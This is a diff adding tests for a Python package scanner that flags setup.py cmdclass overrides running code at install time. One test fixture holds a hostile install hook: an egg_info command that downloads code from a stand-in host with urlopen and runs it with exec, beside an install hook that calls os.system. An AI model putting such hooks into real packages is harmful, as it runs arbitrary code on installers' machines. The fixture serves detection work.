@@ -1,0 +1,58 @@
+"""Install-time commands: setup(cmdclass=...) replacing what an installer or a wheel build runs, and command
+classes whose methods fetch, spawn or run code."""
+
+from pypi_platform_tests.lib.scanner.python_scan import found, scan
+
+
+def test_build_py_and_build_overrides_count_as_install_commands_and_sdist_does_not():
+    source = """
+    from setuptools import setup
+    setup(cmdclass={'build_py': Generate, 'build': Build, 'sdist': Release, 'build_ext': Ext})
+    """
+    (finding,) = scan(source, "pkg-1.0/setup.py")
+    assert (finding.rule, finding.evidence) == (
+        "install.cmdclass-override",
+        "cmdclass replaces build, build_py",
+    )
+
+
+def test_install_cmdclass_runs_code_when_the_command_spawns_or_fetches():
+    source = """
+    import os
+    from setuptools import setup
+    from setuptools.command.install import install
+    from setuptools.command.egg_info import egg_info
+    from urllib.request import urlopen
+
+    class PostInstall(install):
+        def run(self):
+            install.run(self)
+            os.system('id')
+
+    class Info(egg_info):
+        def run(self):
+            exec(urlopen('https://files.example/x.py').read())
+            egg_info.run(self)
+
+    setup(name='x', cmdclass={'install': PostInstall, 'egg_info': Info})
+    """
+    findings = [f for f in scan(source, "pkg-1.0/setup.py") if f.rule == "install.cmdclass-runs-code"]
+    assert [(f.line, f.evidence) for f in findings] == [(18, "cmdclass egg_info: Info.run calls exec")]
+
+
+def test_a_command_that_only_generates_files_is_only_an_override():
+    source = """
+    from setuptools import setup
+    from setuptools.command.build_py import build_py
+
+    class Generate(build_py):
+        def run(self):
+            with open('pkg/_version.py', 'w') as out:
+                out.write('VERSION = 1')
+            build_py.run(self)
+
+    setup(cmdclass={'build_py': Generate})
+    """
+    assert [rule for rule, _ in found(source, "pkg-1.0/setup.py") if rule.startswith("install.")] == [
+        "install.cmdclass-override"
+    ]
